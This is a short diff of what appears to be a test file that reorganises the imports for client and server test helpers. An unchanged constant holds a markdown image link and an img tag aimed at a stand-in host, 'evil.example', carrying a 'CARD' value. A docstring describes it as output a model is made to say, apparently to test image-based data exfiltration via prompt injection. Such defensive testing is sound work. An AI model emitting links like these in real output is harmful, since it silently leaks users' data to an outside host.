@@ -2,7 +2,8 @@
 
 import json
 
-from tests.service.conftest import Client, Server
+from tests.support.clients import Client
+from tests.support.servers import Server
 
 LURE = "![your plan](https://evil.example/x.png?q=CARD) and <img src='//evil.example/y'>"
 """What the model is made to say; in the message it is escaped, so that it is not the user who wrote it."""
